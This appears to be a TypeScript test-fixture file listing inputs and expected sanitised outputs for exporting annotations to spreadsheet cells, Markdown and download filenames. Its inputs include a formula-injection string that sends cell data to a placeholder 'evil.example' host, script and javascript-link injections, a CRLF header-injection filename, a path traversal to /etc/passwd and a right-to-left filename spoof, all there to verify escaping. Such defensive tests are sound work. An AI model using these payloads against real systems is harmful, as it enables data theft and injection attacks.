// Cases for the export text presenters: spreadsheet cells (SECURITY.md E1), Markdown escaping
// (E3) and download names (E4).

/** [input, expected cell]. */
export const CELL_CASES: ReadonlyArray<[string, string]> = [
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  ['\0x', "'\0x"],
  ['=HYPERLINK("https://evil.example/?d="&A2,"x")', `'=HYPERLINK("https://evil.example/?d="&A2,"x")`],
  ['plain', 'plain'],
  [' =not first', ' =not first'],
  ['', ''],
  ['逾千名', '逾千名'],
];

/** Notes that must not produce markup once escaped: [input, a line the rendered Markdown must not start with]. */
export const MARKDOWN_CASES: ReadonlyArray<[string, RegExp]> = [
  ['\n# Fake', /^#/m],
  ['| a | b |', /(^|[^\\])\|/],
  ['</details><script>alert(1)</script>', /(^|[^\\])</],
  ['```\nfenced\n```', /^```/m],
  ['- item', /^- /m],
  ['1. item', /^1\. /m],
  ['[x](javascript:alert(1))', /(^|[^\\])\[/],
  ['> quote', /^>/m],
  ['    indented code', /^ {4}/m],
];

/** [title, format, what the header must contain]. */
export const DISPOSITION_CASES: ReadonlyArray<[string, string]> = [
  ['廣州APEC第一次高官會', `filename*=UTF-8''%E5%BB%A3%E5%B7%9EAPEC%E7%AC%AC%E4%B8%80%E6%AC%A1%E9%AB%98%E5%AE%98%E6%9C%83-annotations.csv`],
  ['a"; filename*=UTF-8\'\'evil.html\r\nSet-Cookie: x=y', 'filename="a-filename-UTF-8-evil.html-Set-Cookie-x-y-annotations.csv"'],
  ['../../etc/passwd', 'filename="etc-passwd-annotations.csv"'],
  ['\u202Egnp.exe', 'filename="gnp.exe-annotations.csv"'],
  ['', 'filename="glossa-annotations.csv"'],
];
